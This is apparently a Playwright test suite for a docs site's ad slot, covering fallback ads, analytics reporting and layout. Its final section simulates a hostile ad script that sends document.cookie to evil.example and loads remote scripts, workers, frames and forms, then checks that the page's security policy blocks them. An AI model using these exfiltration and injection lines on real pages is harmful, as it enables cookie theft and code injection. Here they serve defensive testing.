/** The ad slot on a built site, with a network of our own making in the place of the real one. */

import type { Page, Request, Route } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { openPublishedSite } from '../../../src/server/published-site.js';
import { serveSite } from '../../../src/server/serve-site.js';
import { createLiveExtensions } from '../../../src/watch/live-extensions.js';
import { createPageEvents } from '../../../src/watch/page-events.js';
import { config, markdown, navigation, type SiteFiles } from '../../sites/fixture.js';
import { ready, start, type Living, type Reader, type ReaderOptions } from '../browser.js';

const SCRIPT = 'https://cdn.ads.example/carbon.js?serve=X&placement=acme';
const JSON_ADDRESS = 'https://srv.ads.example/ads/X.json';
const BACKERS = 'https://acme.example/discover-more/backers';

const house = ['templates', 'themes', 'support', 'kit'].map((name) => ({
  name,
  link: `https://acme.example/${name}/`,
  img: `/${name}.svg`,
  descriptionHeader: `The ${name}`,
  description: 'Words about it, as long as such words are wont to be, and then a few more of them.',
}));

const pages = (network: string): SiteFiles => ({
  'docsgen.config.ts': config(
    `ads: { inHouse: ${JSON.stringify(house)}, network: { ${network}, backersHref: '${BACKERS}' } },`,
  ),
  'navigation/acme.ts': navigation({ pathname: '/one' }, { pathname: '/two' }, { pathname: '/none' }),
  'pages/index.md': markdown('Acme', 'Welcome.'),
  'pages/one/index.md': markdown(
    'One',
    'First.\n\n{{"demo": "Hello.js"}}\n\n{{"demo": "Bye.js", "disableAd": true}}',
  ),
  'pages/one/Hello.tsx': 'export default function Hello() {\n  return <p>Hello</p>;\n}\n',
  'pages/one/Bye.tsx': 'export default function Bye() {\n  return <p>Bye</p>;\n}\n',
  'pages/two.md': markdown('Two', 'Second.'),
  'pages/none.md': markdown('None', 'No ad.', 'disableAd: true\n'),
  ...Object.fromEntries(
    house.map(({ img }) => [
      `public${img}`,
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 130 100"><path d="M0 0h130v100H0z"/></svg>',
    ]),
  ),
});

/** What the tests look at: events, and how far things were moved. */
const watching = (): void => {
  const reported: unknown[] = [];
  const moved: unknown[] = [];
  Object.assign(window, { reported, moved, gtag: (...event: unknown[]) => reported.push(event) });
  new PerformanceObserver((list) => moved.push(...list.getEntries())).observe({
    type: 'layout-shift',
    buffered: true,
  });
};

let byScript: Living;
let byJson: Living;

beforeAll(async () => {
  byScript = await start(pages(`script: '${SCRIPT}'`), 'ads-script');
  byJson = await start(pages(`json: '${JSON_ADDRESS}'`), 'ads-json');
});

afterAll(async () => Promise.all([byScript.close(), byJson.close()]));

const FOUND = `(() => {
  const box = document.createElement('div');
  box.id = 'carbonads';
  box.innerHTML = '<a href="https://shop.example/" target="_blank" rel="noopener sponsored">Buy</a>';
  document.currentScript?.parentNode?.append(box);
})()`;

type Network = (route: Route) => Promise<void>;

const blocked: Network = (route) => route.abort('blockedbyclient');

/** Random numbers as said, in the order in which the slot's script draws: shape, appeal, which of the house's. React draws its own. */
const drawing =
  (...numbers: number[]) =>
  async ({ context }: Reader): Promise<void> => {
    await context.addInitScript((all: number[]) => {
      const waiting = [...all];
      const { random } = Math;
      Math.random = () =>
        /\/ads\.[\w-]+\.js/.test(new Error().stack ?? '') ? (waiting.shift() ?? 0.99) : random();
    }, numbers);
  };

/** A page whose clock the test turns. */
async function visit(
  living: Living,
  { network, clock = true, draws = [0.9, 0.9, 0], options = {}, path = '/one/' }: Visiting,
  act: (page: Page, reader: Reader) => Promise<void>,
): Promise<void> {
  const reader = await living.reader({ before: watching, ...options });
  await drawing(...draws)(reader);
  await reader.context.route(/ads\.example/, network);
  const page = await reader.context.newPage();
  if (clock) await stopClock(page);
  await page.goto(path);
  if (clock) await page.clock.runFor(60);
  await started(page);
  await act(page, reader);
  await reader.context.close();
  expect(reader.said.filter((line) => !line.includes('Failed to load resource'))).toEqual([]);
}

/** Time goes on when the test says so. */
async function stopClock(page: Page): Promise<void> {
  await page.clock.install({ time: 0 });
  await page.clock.pauseAt(1000);
}

/** Waits for the script of ads, which comes last. */
async function started(page: Page): Promise<void> {
  await ready(page);
  await page.locator('[data-island-slot=ads][data-state]').waitFor();
}

interface Visiting {
  readonly network: Network;
  readonly clock?: boolean;
  readonly draws?: readonly number[];
  readonly options?: ReaderOptions;
  readonly path?: string;
}

const slotOf = (page: Page) => page.locator('[data-island-slot=ads]');

const stateOf = (page: Page): Promise<string | null> => slotOf(page).getAttribute('data-state');

const findReported = (page: Page): Promise<readonly unknown[]> =>
  page.evaluate(() =>
    (window as unknown as { reported: unknown[][] }).reported.filter((event) => event[1] === 'ad'),
  );

const isAnswer = (request: Request): boolean => request.url() === JSON_ADDRESS;

const event = (eventAction: string, eventLabel: string) => ['event', 'ad', { eventAction, eventLabel }];

const serving =
  (script: string): Network =>
  (route) =>
    route.fulfill({ contentType: 'text/javascript', body: script });

describe('the states of the slot', () => {
  test('ADS-05, NET-05: the network’s script is added to the slot’s own node, asynchronously and once', async () => {
    await visit(byScript, { network: serving(FOUND) }, async (page) => {
      await expect.poll(() => stateOf(page)).toBe('carbon-body-top-image');
      await page.clock.runFor(20);
      const script = slotOf(page).locator('script');
      await expect.poll(() => script.count()).toBe(1);
      expect(await script.evaluate((it: HTMLScriptElement) => [it.id, it.async, it.src])).toEqual([
        '_carbonads_js',
        true,
        SCRIPT,
      ]);
      await slotOf(page).locator('#carbonads').waitFor();
      await page.clock.runFor(20_000);
      expect(await script.count()).toBe(1);
      expect(await stateOf(page)).toBe('carbon-body-top-image');
      expect(await slotOf(page).getAttribute('data-ga-event-label')).toBe('carbon-body-top-image');
    });
  });

  test('ADS-07, ADS-06: after six looks that find nothing the network is held for blocked, at 3 s and not before', async () => {
    await visit(byScript, { network: blocked }, async (page) => {
      await page.clock.runFor(2800);
      expect(await stateOf(page)).toBe('carbon-body-top-image');
      await page.clock.runFor(400);
      await expect.poll(() => stateOf(page)).toBe('in-house-body-top-image');
    });
  });

  test('ADS-06: it is looked for thirty times, and found late the network’s ad comes back', async () => {
    await visit(byScript, { network: blocked }, async (page) => {
      await page.clock.runFor(4000);
      expect(await stateOf(page)).toBe('in-house-body-top-image');
      const place = (): Promise<void> =>
        page.evaluate(() => {
          const other = document.createElement('div');
          other.className = 'ea-placement';
          document.body.append(other);
        });
      await place();
      await page.clock.runFor(500);
      expect(await stateOf(page)).toBe('carbon-body-top-image');
    });
    await visit(byScript, { network: blocked }, async (page) => {
      await page.clock.runFor(15_000);
      await page.evaluate(() => {
        document.body.append(Object.assign(document.createElement('div'), { className: 'ea-placement' }));
      });
      await page.clock.runFor(5000);
      expect(await stateOf(page)).toBe('in-house-body-top-image');
    });
  });

  test.each([
    [0.19, 'in-house-adblock-body-top-image'],
    [0.2, 'in-house-body-top-image'],
  ])(
    'ADS-03: of readers who block ads, those with a draw below 0.2 see the appeal (%d)',
    async (appeal, state) => {
      await visit(byScript, { network: blocked, draws: [0.9, appeal, 0] }, async (page) => {
        await page.clock.runFor(3500);
        expect(await stateOf(page)).toBe(state);
      });
    },
  );

  test('ADS-18: the appeal asks, says that an ad is blocked, and thanks', async () => {
    await visit(byScript, { network: blocked, draws: [0.9, 0, 0] }, async (page) => {
      await page.clock.runFor(3500);
      const lines = slotOf(page).locator('p');
      expect(await lines.count()).toBe(3);
      expect(await lines.allInnerTexts()).toEqual([
        expect.stringContaining('support'),
        expect.stringContaining('blocked'),
        expect.stringContaining('Thank you'),
      ]);
      expect(await slotOf(page).getByRole('img').getAttribute('aria-label')).toBeTruthy();
    });
  });

  test('ADS-02, ADS-09: a draw chooses which of the house’s ads is shown, and it stays', async () => {
    for (const [random, name] of [
      [0, 'templates'],
      [0.26, 'themes'],
      [0.74, 'support'],
      [0.99, 'kit'],
    ] as const) {
      await visit(byScript, { network: blocked, draws: [0.9, 0.9, random] }, async (page) => {
        await page.clock.runFor(3500);
        const link = slotOf(page).getByRole('link');
        expect(await link.getAttribute('href')).toBe(`https://acme.example/${name}/`);
        await page.clock.runFor(11_000);
        expect(await link.getAttribute('href')).toBe(`https://acme.example/${name}/`);
      });
    }
  });

  test('ADS-04: where the network serves the backers’ link, an ad of the house takes its place', async () => {
    const network = serving(FOUND.replace('https://shop.example/', BACKERS));
    await visit(byScript, { network }, async (page) => {
      await page.clock.runFor(20);
      await slotOf(page).locator('#carbonads').waitFor();
      await page.clock.runFor(600);
      expect(await stateOf(page)).toBe('in-house-carbon-body-top-image');
      expect(await slotOf(page).locator('#carbonads').count()).toBe(0);
    });
  });

  test('ADS-01: a crawler sees an empty slot; nothing is fetched, nothing reported', async () => {
    const asked: string[] = [];
    const network: Network = (route) => {
      asked.push(route.request().url());
      return route.abort();
    };
    const options = { userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1)' };
    await visit(byScript, { network, options, draws: [0.9, 0.9, 0, 0, 0] }, async (page) => {
      await expect.poll(() => stateOf(page)).toBe('nothing');
      await page.clock.runFor(16_000);
      expect(await slotOf(page).evaluate((slot) => slot.innerHTML)).toBe('<span></span>');
      expect(await findReported(page)).toEqual([]);
      expect(asked).toEqual([]);
    });
  });

  test('ADS-19: a watch shows none, and asks no network for one, also where code is opened', async () => {
    const asked: string[] = [];
    const events = createPageEvents();
    const server = await serveSite({
      folder: byJson.site.outDir,
      getHost: openPublishedSite(byJson.site.outDir),
      address: { host: '127.0.0.1', port: 0 },
      extensions: createLiveExtensions({ events, diagnostics: () => '{"count":0,"diagnostics":[]}' }),
    });
    onTestFinished(async () => {
      events.close();
      await server.close();
    });
    const reader = await byJson.reader({ before: watching });
    await reader.context.route(/ads\.example/, async (route) => {
      asked.push(route.request().url());
      await route.abort();
    });
    const page = await reader.open(`http://127.0.0.1:${server.port}/one/`);
    await expect.poll(() => stateOf(page)).toBe('nothing');
    await page.locator('figure summary').first().click();
    await page.locator('figure details[open]').first().waitFor();
    await page.waitForTimeout(200);
    expect(await page.locator('.demo-ad').count()).toBe(0);
    expect(asked).toEqual([]);
    await reader.leave();
  });

  test.each([
    [0.19, 'inline', false],
    [0.2, 'image', true],
  ])('ADS-10: the shape is drawn once for a page (%d: %s)', async (random, shape, hasImage) => {
    await visit(byScript, { network: blocked, draws: [random, 0.9, 0] }, async (page) => {
      await page.clock.runFor(3500);
      expect(await stateOf(page)).toBe(`in-house-body-top-${shape}`);
      expect(await slotOf(page).locator('img').isVisible()).toBe(hasImage);
      expect(await slotOf(page).getByText('Get started').isVisible()).toBe(!hasImage);
    });
  });

  test('ADS-12: the slot stands after the description, and a page can do without', async () => {
    await visit(byScript, { network: blocked, clock: false }, async (page, { context }) => {
      expect(await page.locator('.description + [data-island-slot=ads]').count()).toBe(1);
      const other = await context.newPage();
      const asked: string[] = [];
      other.on('request', (request) => asked.push(request.url()));
      await other.goto('/none/');
      await ready(other);
      expect(await slotOf(other).count()).toBe(0);
      expect(asked.filter((url) => /ads/.test(url))).toEqual([]);
    });
  });

  test('ADS-15, ADS-16: an ad has an image of 130 by 100 with its name, and its link opens a tab without a reference to the page', async () => {
    await visit(byScript, { network: blocked }, async (page) => {
      await page.clock.runFor(3500);
      const image = slotOf(page).getByRole('img', { name: 'templates' });
      expect(await image.boundingBox()).toMatchObject({ width: 130, height: 100 });
      const link = slotOf(page).getByRole('link');
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('rel')).toBe('noopener sponsored');
      expect(await slotOf(page).innerText()).toContain('ad by Acme');
    });
  });

  test('ADS-17: there are the four ads of the config, under their names', async () => {
    const text = [...byScript.site.tree()].find(([path]) => /ads\.\w+\.js$/.test(path))![1];
    for (const { name } of house) expect(text).toContain(name);
  });
});

describe('what is reported of ads', () => {
  test('ADS-13: what is shown for 2500 ms is reported for a share of readers, with its label', async () => {
    // Shape, appeal, house; then for the network's slot: below the ratio.
    await visit(byScript, { network: serving(FOUND), draws: [0.9, 0.9, 0, 0.1] }, async (page) => {
      await page.clock.runFor(2300);
      expect(await findReported(page)).toEqual([]);
      await page.clock.runFor(400);
      expect(await findReported(page)).toEqual([event('display', 'carbon-body-top-image')]);
    });
    await visit(byScript, { network: serving(FOUND), draws: [0.9, 0.9, 0, 0.11] }, async (page) => {
      await page.clock.runFor(10_000);
      expect(await findReported(page)).toEqual([]);
    });
  });

  test('ADS-13: what gives way before that is not reported; the ad of the house is, by itself and as the slot', async () => {
    const draws = [0.9, 0.9, 0, 0.1, 0.1, 0.1];
    const network = serving(FOUND.replace('https://shop.example/', BACKERS));
    await visit(byScript, { network, draws }, async (page) => {
      await page.clock.runFor(20);
      await slotOf(page).locator('#carbonads').waitFor();
      await page.clock.runFor(600);
      expect(await findReported(page)).toEqual([event('display', 'in-house-templates')]);
      await page.clock.runFor(2300);
      expect(await findReported(page)).toEqual([event('display', 'in-house-templates')]);
      await page.clock.runFor(10_000);
      expect(await findReported(page)).toEqual([
        event('display', 'in-house-templates'),
        event('display', 'in-house-carbon-body-top-image'),
      ]);
    });
  });

  test('ADS-13: a network that shows nothing is not reported as shown', async () => {
    const draws = [0.9, 0.9, 0, 0.1, 0.1, 0.1];
    await visit(byScript, { network: blocked, draws }, async (page) => {
      await page.clock.runFor(2900);
      expect(await findReported(page)).toEqual([]);
      await page.clock.runFor(3100);
      expect(await findReported(page)).toEqual([
        event('display', 'in-house-templates'),
        event('display', 'in-house-body-top-image'),
      ]);
    });
  });

  test('ADS-14: a click on the link is reported under its own label, one beside it under the slot’s', async () => {
    await visit(byScript, { network: blocked }, async (page) => {
      await page.clock.runFor(3500);
      await page.evaluate(() => addEventListener('click', (click) => click.preventDefault()));
      await slotOf(page).getByRole('link').click();
      await slotOf(page).evaluate((slot: HTMLElement) => slot.click());
      expect(await findReported(page)).toEqual([
        event('click', 'in-house-templates'),
        event('click', 'in-house-body-top-image'),
      ]);
    });
  });

  test.each([true, false])(
    'ADS-08, X15: an ad that throws leaves an empty box and a word to the analytics, if there are any (%s)',
    async (isMeasured) => {
      const reader = await byScript.reader({ before: breakAds });
      if (isMeasured) await reader.context.addInitScript(watching);
      await drawing(0.9, 0.9, 0)(reader);
      await reader.context.route(/ads\.example/, blocked);
      const page = await reader.context.newPage();
      await stopClock(page);
      await page.goto('/one/');
      await page.clock.runFor(60);
      await started(page);
      await page.clock.runFor(3500);
      expect(await slotOf(page).evaluate((slot) => slot.innerHTML)).toBe('');
      if (isMeasured) expect(await findReported(page)).toEqual([event('crash', 'in-house-body-top-image')]);
      await page.locator('.copy').first().waitFor({ state: 'attached' });
      reader.said.splice(0);
      await reader.leave();
    },
  );
});

/** Ads throw when they are drawn. */
const breakAds = (): void => {
  const importNode = document.importNode.bind(document);
  document.importNode = (node, ...options) => {
    if (node instanceof DocumentFragment && node.querySelector('.ad')) throw new Error('broken');
    return importNode(node, ...options);
  };
};

const anAd = {
  statlink: 'https://srv.ads.example/click',
  image: 'https://srv.ads.example/image.png',
  company: 'Shop',
  description: 'Buys <b>and</b> sells.',
  statimp: '//srv.ads.example/seen.gif',
  pixel: 'https://srv.ads.example/one.gif?t=[timestamp]&u=[timestamp]||https://srv.ads.example/two.gif',
  timestamp: '1700000000',
};

const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** Answers as the JSON address, in turn, and keeps what was asked for. */
const answering = (...answers: readonly unknown[]) => {
  const asked: string[] = [];
  const images: string[] = [];
  const network: Network = async (route) => {
    const url = route.request().url();
    if (url !== JSON_ADDRESS) {
      images.push(url);
      return route.fulfill({ contentType: 'image/gif', body: PIXEL });
    }
    const answer = answers[Math.min(asked.length, answers.length - 1)];
    asked.push(url);
    const body = typeof answer === 'string' ? answer : JSON.stringify(answer);
    return route.fulfill({
      contentType: 'application/json',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body,
    });
  };
  return { network, asked, images };
};

describe('the network’s JSON', () => {
  test('NET-01, NET-04: the first entry that has a link is shown as text, with the images that count', async () => {
    const { network, asked, images } = answering({ ads: [{}, { company: 'No link' }, anAd] });
    await visit(byJson, { network, clock: false }, async (page) => {
      const link = slotOf(page).getByRole('link', { name: 'Buys <b>and</b> sells.' });
      await link.waitFor();
      expect(await link.getAttribute('href')).toBe('https://srv.ads.example/click');
      expect(await link.getAttribute('rel')).toBe('noopener sponsored');
      expect(await link.locator('b').innerText()).toBe('Shop ');
      expect(await slotOf(page).innerText()).toContain('ad by Carbon');
      expect(asked).toHaveLength(1);
      await expect
        .poll(() => images.toSorted())
        .toEqual([
          'https://srv.ads.example/image.png',
          'https://srv.ads.example/one.gif?t=1700000000&u=[timestamp]',
          'https://srv.ads.example/seen.gif',
          'https://srv.ads.example/two.gif',
        ]);
      const pixels = slotOf(page).locator('.carbonads > img');
      expect(await pixels.first().getAttribute('src')).toContain('seen.gif');
      expect(await pixels.first().isVisible()).toBe(false);
      expect(await stateOf(page)).toBe('carbon-body-top-image');
    });
  });

  test('ADS-08: one that throws leaves an empty box and a crash to the analytics, and is counted nowhere', async () => {
    const { network, images } = answering({ ads: [anAd] });
    const draws = [0.9, 0.9, 0, 0.1, 0.1, 0.1];
    await visit(byJson, { network, draws }, async (page) => {
      await page.evaluate(breakAds);
      await page.clock.runFor(20_000);
      // The slot has drawn its ad already; a demo's is drawn when its code is opened.
      expect(await slotOf(page).locator('.carbonads a').count()).toBe(1);
      const demo = page.getByRole('figure').first();
      const counted = images.length;
      await demo.locator('summary').click();
      await expect.poll(() => findReported(page)).toContainEqual(event('crash', 'carbon-demo-inline'));
      expect(await demo.locator('.demo-ad').evaluate((box) => box.innerHTML)).toBe('');
      expect(images).toHaveLength(counted);
    });
    const reader = await byJson.reader({ before: breakAds });
    await reader.context.addInitScript(watching);
    await drawing(...draws)(reader);
    await reader.context.route(/ads\.example/, network);
    const page = await reader.context.newPage();
    await stopClock(page);
    await page.goto('/one/');
    await page.clock.runFor(60);
    await started(page);
    await expect.poll(() => findReported(page)).toEqual([event('crash', 'carbon-body-top-image')]);
    // Nothing takes its place, and nothing is said to have been displayed.
    await page.clock.runFor(20_000);
    expect(await slotOf(page).evaluate((slot) => slot.innerHTML)).toBe('');
    expect(await findReported(page)).toEqual([event('crash', 'carbon-body-top-image')]);
    await reader.leave();
  });

  test('NET-02: where no entry will do, it is asked again at once, ten times in total', async () => {
    const { network, asked } = answering({ ads: [{}] });
    await visit(byJson, { network }, async (page) => {
      await expect.poll(() => asked.length).toBe(10);
      await page.clock.runFor(3500);
      expect(await stateOf(page)).toBe('in-house-body-top-image');
      expect(asked).toHaveLength(10);
    });
  });

  test('NET-02: the entry of a later answer is shown', async () => {
    const { network, asked } = answering({ ads: [] }, {}, { ads: [anAd] });
    await visit(byJson, { network, clock: false }, async (page) => {
      await slotOf(page).locator('.carbonads a').waitFor();
      expect(asked).toHaveLength(3);
    });
  });

  const failures: Readonly<Record<string, Network>> = {
    'cannot be reached': (route) => route.abort('connectionrefused'),
    'answers 500': (route) => route.fulfill({ status: 500, headers: { 'Access-Control-Allow-Origin': '*' } }),
    'answers 204': (route) => route.fulfill({ status: 204, headers: { 'Access-Control-Allow-Origin': '*' } }),
    'answers HTML': (route) =>
      route.fulfill({ body: '<p>no</p>', headers: { 'Access-Control-Allow-Origin': '*' } }),
    'answers far too much': (route) =>
      route.fulfill({
        body: JSON.stringify({ ads: [{ ...anAd, x: 'x'.repeat(5_000_000) }] }),
        headers: { 'Access-Control-Allow-Origin': '*' },
      }),
  };

  test.each(Object.entries(failures))(
    'NET-03, X11: a network that %s is asked once; then the house’s ad is shown',
    async (_, network) => {
      let asked = 0;
      const counting: Network = (route) => {
        asked += 1;
        return network(route);
      };
      await visit(byJson, { network: counting }, async (page) => {
        await expect.poll(() => asked).toBe(1);
        await page.waitForTimeout(100);
        await page.clock.runFor(3500);
        expect(await stateOf(page)).toBe('in-house-body-top-image');
        expect(asked).toBe(1);
      });
    },
  );

  test('NET-06: a reader who goes ends the asking', async () => {
    const waiting: Route[] = [];
    const network: Network = async (route) => void waiting.push(route);
    await visit(byJson, { network, clock: false }, async (page) => {
      await expect.poll(() => waiting.length).toBe(1);
      await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide')));
      const ended = Promise.race([
        page.waitForEvent('requestfinished', isAnswer),
        page.waitForEvent('requestfailed', isAnswer),
      ]);
      const headers = { 'Access-Control-Allow-Origin': '*' };
      await waiting[0]!.fulfill({ body: '{"ads":[]}', headers }).catch(() => undefined);
      await ended;
      await page.waitForTimeout(100);
      expect(waiting).toHaveLength(1);
      expect(await slotOf(page).locator('a').count()).toBe(0);
    });
  });

  test('an ad of one line comes under a demo whose code was looked at; a demo may do without', async () => {
    const { network } = answering({ ads: [anAd] });
    await visit(byJson, { network, clock: false }, async (page) => {
      const demo = page.getByRole('figure').first();
      expect(await demo.locator('.demo-ad').count()).toBe(0);
      await demo.locator('summary').click();
      await demo.locator('.demo-ad .carbonads').waitFor();
      expect((await demo.locator('.demo-ad').boundingBox())!.height).toBeGreaterThanOrEqual(52);
      expect(await demo.locator('.demo-ad a').getAttribute('data-ga-event-label')).toBe('carbon-demo-inline');
      await demo.locator('summary').click();
      expect(await demo.locator('.demo-ad').count()).toBe(1);
      const other = page.getByRole('figure').nth(1);
      await other.locator('summary').click();
      expect(await other.locator('.demo-ad').count()).toBe(0);
    });
  });
});

describe.concurrent('ADS-11: the box', () => {
  test.each([
    [360, 142],
    [600, 126],
    [1280, 126],
  ])('at %i px it is %i px high whatever is in it, and nothing on the page moves', async (width, height) => {
    const huge = answering({ ads: [{ ...anAd, description: 'Long words. '.repeat(100) }] });
    const cases = [
      { living: byScript, network: blocked, draws: [0.9, 0.9, 0], state: 'in-house-body' },
      { living: byScript, network: blocked, draws: [0.9, 0, 0], state: 'in-house-adblock' },
      {
        living: byScript,
        network: serving(FOUND.replace('Buy', 'Buy '.repeat(300))),
        draws: [0.9, 0.9, 0],
        state: 'carbon',
      },
      { living: byJson, network: huge.network, draws: [0.9, 0.9, 0], state: 'carbon' },
      { living: byJson, network: huge.network, draws: [0.1, 0.9, 0], state: 'carbon' },
    ] as const;
    for (const { living, network, draws, state } of cases) {
      const options = { viewport: { width, height: 800 } };
      await visit(living, { network, draws, options }, async (page) => {
        const box = (): Promise<number> =>
          slotOf(page).evaluate((slot) => slot.getBoundingClientRect().height);
        expect(await box()).toBe(height);
        await page.clock.runFor(state === 'carbon' ? 50 : 3500);
        if (state === 'carbon') await slotOf(page).locator('#carbonads, .carbonads a').first().waitFor();
        expect(await stateOf(page)).toContain(state);
        await page.waitForTimeout(50);
        expect(await box()).toBe(height);
        expect(await page.evaluate(() => (window as unknown as { moved: object[] }).moved)).toEqual([]);
      });
    }
  });
});

describe('an ad network that is hostile', () => {
  test('X12: its script sends nothing elsewhere, and gets no frame, worker, place, clipboard or whole screen', async () => {
    // It begins on request: a form that is refused leaves Playwright in doubt whether the page is being left.
    const script = `${FOUND}; addEventListener('attack', async () => {
      const refused = (window.refused = []);
      addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
      fetch('https://evil.example/?' + document.cookie).catch(() => 0);
      new Image().src = 'https://evil.example/i.png';
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/a.css' }));
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
      try { eval('1'); } catch {}
      try { new Worker('https://evil.example/w.js'); } catch {}
      try { new Worker(URL.createObjectURL(new Blob(['']))); } catch {}
      const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: 'https://evil.example/' }));
      form.submit();
      const of = (name) => navigator.permissions.query({ name }).then(({ state }) => state, () => 'denied');
      window.permissions = await Promise.all(['geolocation', 'camera', 'microphone', 'clipboard-read'].map(of));
      window.whole = await document.documentElement.requestFullscreen().then(() => 'whole', () => 'refused');
    })`;
    await visit(byScript, { network: serving(script), clock: false }, async (page, { context, said }) => {
      const sent: string[] = [];
      // What the policy refuses does not come as far as a route.
      await context.route(/evil\.example/, async (route) => {
        sent.push(route.request().url());
        await route.abort();
      });
      await slotOf(page).locator('#carbonads').waitFor();
      // What an evaluation does itself, the policy lets pass.
      await page.evaluate(() => void setTimeout(() => dispatchEvent(new Event('attack'))));
      await expect.poll(() => page.evaluate(() => 'whole' in window), { timeout: 15_000 }).toBe(true);
      const { refused, permissions, whole } = await page.evaluate(() => {
        const own = window as unknown as Record<'refused' | 'permissions' | 'whole', unknown>;
        return { refused: own.refused as string[], permissions: own.permissions, whole: own.whole };
      });
      expect([...new Set(refused)].toSorted()).toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'script-src',
        'style-src-elem',
        'worker-src',
      ]);
      expect(permissions).toEqual(['denied', 'denied', 'denied', 'denied']);
      expect(whole).toBe('refused');
      expect(sent).toEqual([]);
      said.splice(0);
    });
  });

  test('X12, CSP: what the policy does not name is not fetched; what its script does stays out of the page’s words', async () => {
    const script = `${FOUND}; const more = document.createElement('script'); more.src = 'https://evil.example/x.js'; document.head.append(more);
      const inline = document.createElement('script'); inline.textContent = 'window.isBroken = true'; document.head.append(inline);`;
    await visit(byScript, { network: serving(script), clock: false }, async (page, { said }) => {
      await slotOf(page).locator('#carbonads').waitFor();
      expect(await page.evaluate(() => 'isBroken' in window)).toBe(false);
      expect(
        said.splice(0).filter((line) => line.includes('Content Security Policy')).length,
      ).toBeGreaterThanOrEqual(2);
    });
  });
});
